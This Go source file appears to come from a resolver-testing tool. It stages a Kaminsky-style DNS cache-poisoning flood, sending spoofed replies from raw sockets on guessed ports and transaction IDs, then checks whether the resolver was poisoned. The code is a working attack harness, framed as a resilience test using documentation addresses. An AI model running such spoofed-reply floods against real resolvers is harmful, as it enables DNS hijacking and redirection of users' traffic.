package main

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/miekg/dns"

	"github.com/addrwalk/addrwalk/internal/forge"
)

// Forged-reply flood (Kaminsky style), the same against any resolver: this
// process is the victim zone's authoritative server (at auth, answering
// every name with realAddr after delay, the window a forgery must win), the
// attacker's client (asking the resolver one random name under the zone
// after another) and the forger (a raw socket sending replies spoofed from
// auth to the resolver's upstream address victim, on guessed ports and IDs,
// each with evilAddr and an NS + glue redirect of the zone). Afterwards
// every name asked, and ns.ZONE, is asked again: an evilAddr answer is a
// poisoning. The resolver must have zone as a stub zone pointing at auth.

// The forged and the real address: documentation ranges, never routed.
var (
	evilAddr = netip.MustParseAddr("203.0.113.66")
	realAddr = netip.MustParseAddr("192.0.2.1")
)

// authCookie is the server cookie the auth sends to a query with a client
// cookie (RFC 7873), so a resolver's client-cookie defence is exercised.
const authCookie = "a5a5a5a5a5a5a5a5"

// forgeConfig is the forge test's own flags.
type forgeConfig struct {
	auth     netip.AddrPort // the victim zone's server: bound here, spoofed by the forger
	victim   netip.Addr     // the resolver's upstream source address
	zone     string
	delay    time.Duration // the auth's answer delay: the race window
	ports    [2]uint16     // the destination ports guessed, inclusive
	maxSent  int           // forged packets at most
	maxNames int           // names asked at most
}

// startAuth serves zone at cfg.auth over UDP and TCP until ctx ends.
func startAuth(cfg forgeConfig) (func(), error) {
	h := dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		time.Sleep(cfg.delay) // simulated distance: the forger's window
		m := new(dns.Msg)
		m.SetReply(q)
		m.Authoritative = true
		if len(q.Question) == 1 && q.Question[0].Qtype == dns.TypeA && dns.IsSubDomain(cfg.zone, q.Question[0].Name) {
			m.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 300}, A: realAddr.AsSlice()}}
		}
		if opt := q.IsEdns0(); opt != nil {
			m.SetEdns0(1232, false)
			for _, o := range opt.Option {
				if c, ok := o.(*dns.EDNS0_COOKIE); ok && len(c.Cookie) >= 16 {
					m.IsEdns0().Option = []dns.EDNS0{&dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: c.Cookie[:16] + authCookie}}
				}
			}
		}
		_ = w.WriteMsg(m)
	})
	pc, err := net.ListenPacket("udp", cfg.auth.String())
	if err != nil {
		return nil, fmt.Errorf("forge: auth: %w", err)
	}
	ln, err := net.Listen("tcp", cfg.auth.String())
	if err != nil {
		pc.Close()
		return nil, fmt.Errorf("forge: auth: %w", err)
	}
	var wg sync.WaitGroup
	servers := []*dns.Server{{PacketConn: pc, Handler: h}, {Listener: ln, Handler: h}}
	for _, s := range servers {
		wg.Go(func() { _ = s.ActivateAndServe() })
	}
	return func() {
		for _, s := range servers {
			_ = s.Shutdown()
		}
		wg.Wait()
	}, nil
}

// askA asks target for name A over UDP (RD) and returns the addresses
// answered; ok false on no reply or SERVFAIL.
func askA(target netip.AddrPort, name string, timeout time.Duration) ([]netip.Addr, bool) {
	c := &dns.Client{Net: "udp", Timeout: timeout}
	q := new(dns.Msg)
	q.SetQuestion(name, dns.TypeA)
	m, _, err := c.Exchange(q, target.String())
	if err != nil || m.Rcode == dns.RcodeServerFailure {
		return nil, false
	}
	var out []netip.Addr
	for _, rr := range m.Answer {
		if a, ok := rr.(*dns.A); ok {
			ip, _ := netip.AddrFromSlice(a.A.To4())
			out = append(out, ip)
		}
	}
	return out, true
}

// forgeTest runs the flood for o.duration (or cfg.maxSent packets) and
// reports; the goal is 0 poisoned.
func forgeTest(ctx context.Context, o opts, cfg forgeConfig) (bool, error) {
	f, err := forge.Open()
	if err != nil {
		return false, err
	}
	defer f.Close()
	stopAuth, err := startAuth(cfg)
	if err != nil {
		return false, err
	}
	defer stopAuth()
	// The resolver has met the server before the attack (first contact
	// under a flood is trust on first use for cookies, in every resolver).
	var warm bool
	for range 20 { // the resolver may still be starting: up to 20 × 0.5 s
		if _, warm = askA(o.target, "warm-up."+cfg.zone, 500*time.Millisecond); warm {
			break
		}
	}
	if !warm {
		return false, fmt.Errorf("forge: %v does not resolve names under %s (is it a stub zone at %v?)", o.target, cfg.zone, cfg.auth)
	}

	actx, stop := context.WithTimeout(ctx, o.duration)
	defer stop()
	var current atomic.Pointer[string]
	first := "warm-up." + cfg.zone
	current.Store(&first)
	var asked []string
	var answered, realAnswers int
	var wg sync.WaitGroup
	wg.Go(func() { // the attacker's client: one random name after another
		defer stop()
		for i := 0; i < cfg.maxNames && actx.Err() == nil; i++ {
			name := fmt.Sprintf("r%d-%08x.%s", i, rand.Uint32(), cfg.zone)
			current.Store(&name)
			asked = append(asked, name)
			if addrs, ok := askA(o.target, name, 2*time.Second); ok {
				answered++
				if len(addrs) == 1 && addrs[0] == realAddr {
					realAnswers++
				}
			}
		}
	})
	sent, built := 0, ""
	start := time.Now()
	span := int(cfg.ports[1]) - int(cfg.ports[0]) + 1
	for ; sent < cfg.maxSent && actx.Err() == nil; sent++ {
		if p := current.Load(); *p != built {
			payload, err := forge.Reply(*p, cfg.zone, evilAddr)
			if err != nil {
				return false, err
			}
			f.Build(cfg.auth, netip.AddrPortFrom(cfg.victim, 0), payload)
			built = *p
		}
		port := cfg.ports[0] + uint16(rand.IntN(span))
		if err := f.Send(cfg.victim, port, uint16(rand.Uint32())); err != nil && !errors.Is(err, syscall.ENOBUFS) {
			stop()
			wg.Wait()
			return false, fmt.Errorf("forge: raw send: %w", err)
		}
	}
	elapsed := time.Since(start)
	stop()
	wg.Wait()

	poisoned := 0
	for _, name := range append(asked, "ns."+cfg.zone, "warm-up."+cfg.zone) {
		if ctx.Err() != nil {
			return false, fmt.Errorf("forge: checking for poisoned names: %w", ctx.Err())
		}
		addrs, _ := askA(o.target, name, 2*time.Second)
		for _, a := range addrs {
			if a == evilAddr {
				poisoned++
				fmt.Printf("%-9s forge: POISONED %s A %s\n", o.label, name, a)
			}
		}
	}
	ok := poisoned == 0 && alive(o.pid)
	fmt.Printf("%-9s forge: %d forged replies (%.0f/s) over ports %d-%d for %.1fs; %d names asked, %d answered during the flood (%d real); %d poisoned; goals met %v\n",
		o.label, sent, float64(sent)/elapsed.Seconds(), cfg.ports[0], cfg.ports[1], elapsed.Seconds(), len(asked), answered, realAnswers, poisoned, ok)
	return ok, nil
}

// parseForge reads the forge test's addresses and port range.
func parseForge(auth, victim, zone, ports string) (forgeConfig, error) {
	var cfg forgeConfig
	var err error
	if cfg.auth, err = netip.ParseAddrPort(auth); err != nil {
		return cfg, fmt.Errorf("forge: -auth: %w", err)
	}
	if cfg.victim, err = netip.ParseAddr(victim); err != nil {
		return cfg, fmt.Errorf("forge: -victim: %w", err)
	}
	if !cfg.auth.Addr().Is4() || !cfg.victim.Is4() {
		return cfg, errors.New("forge: -auth and -victim must be IPv4 (the forger writes IPv4 headers)")
	}
	lo, hi, ok := strings.Cut(ports, "-")
	l, err1 := strconv.ParseUint(lo, 10, 16)
	h, err2 := strconv.ParseUint(hi, 10, 16)
	if !ok || err1 != nil || err2 != nil || l == 0 || l > h {
		return cfg, fmt.Errorf("forge: -ports %q: want LO-HI within 1-65535", ports)
	}
	cfg.ports = [2]uint16{uint16(l), uint16(h)}
	cfg.zone = dns.Fqdn(zone)
	return cfg, nil
}
